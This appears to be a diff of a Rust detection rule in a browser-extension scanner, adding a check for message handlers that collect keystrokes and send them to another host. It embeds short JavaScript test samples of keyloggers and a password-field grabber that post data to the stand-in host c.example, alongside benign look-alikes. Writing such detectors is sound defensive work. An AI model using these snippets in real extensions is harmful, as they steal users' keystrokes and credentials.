@@ -22,6 +22,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "chrome.runtime.onMessage.addListener(function(m){if(m.type==='keystroke'){fetch('https://c.example/k',{method:'POST',body:JSON.stringify({keystroke:m.data})})}})",
             "function got(m){var d='key='+m.key+'&page='+m.page;var x=new XMLHttpRequest();x.open('POST','http://c.example/k/',true);x.send(d)}chrome.runtime.onMessage.addListener(got)",
             "const look=()=>{const u=document.querySelector('input[type=email]')?.value;const p=document.querySelector('input[type=\"password\"]')?.value;if(u&&p)chrome.runtime.sendMessage({type:'LOGIN',u,p})};setInterval(look,300)",
+            "let q=[];chrome.runtime.onMessage.addListener(m=>{if(m.type==='keystrokes'){q.push(m.data);flush()}});function flush(){const b=JSON.stringify(q);q=[];fetch('https://c.example/k',{method:'POST',body:b})}",
         ],
         without: &[
             "chrome.runtime.onMessage.addListener(function(m){fetch('https://api.example/t?key='+m.key)})",
@@ -29,6 +30,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "chrome.runtime.onMessage.addListener(function(m){fetch('/k',{method:'POST',body:JSON.stringify({keystroke:m.data})})})",
             "form.addEventListener('submit',()=>{chrome.runtime.sendMessage({type:'save',p:form.querySelector('input[type=\"password\"]').value})})",
             "setInterval(()=>{if(document.querySelector('input[type=\"password\"]'))chrome.runtime.sendMessage({type:'icon'})},300)",
+            "let q=[];chrome.runtime.onMessage.addListener(m=>{if(m.type==='clip'){q.push(m.data);flush()}});function flush(){const b=JSON.stringify(q);q=[];fetch('https://c.example/k',{method:'POST',body:b})}",
         ],
     },
 };
@@ -43,9 +45,28 @@ fn relays(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 12);
     near.words(&["onMessage"]).any(|at| {
         near.word(at + 1) == "addListener"
-            && near.functions_at(at + 2..at + 6, at + 3).any(|body| sends_keys(near.among(body)))
+            && near
+                .functions_at(at + 2..at + 6, at + 3)
+                .any(|body| sends_keys(near.among(body.clone())) || gathers_keys(near, body))
     })
 }
+
+/// Whether messages that say that they are keys are kept, and what is kept is sent to another host by a function beside it.
+fn gathers_keys(near: Near<'_>, body: Range<usize>) -> bool {
+    let inside = near.among(body.clone());
+    let told = inside.places().any(|at| {
+        let compares =
+            |at: usize| near.item(at).is_some_and(|item| item.kind == Kind::Op && item.op.compares());
+        near.kind(at) == Some(Kind::Str)
+            && KEYS.contains(&near.word(at))
+            && (compares(at.wrapping_sub(1)) || near.word(at.wrapping_sub(1)) == "case")
+    });
+    let kept = inside.has_word(&["push", "concat", "set"]);
+    told && kept && near.has_fact_in(body.start..body.end + BESIDE, &[Atom::SentAbroad])
+}
+
+/// Items between a handler of messages and the function that sends what it keeps.
+const BESIDE: usize = 120;
 
 fn sends_keys(inside: Near<'_>) -> bool {
     let places = inside.places();
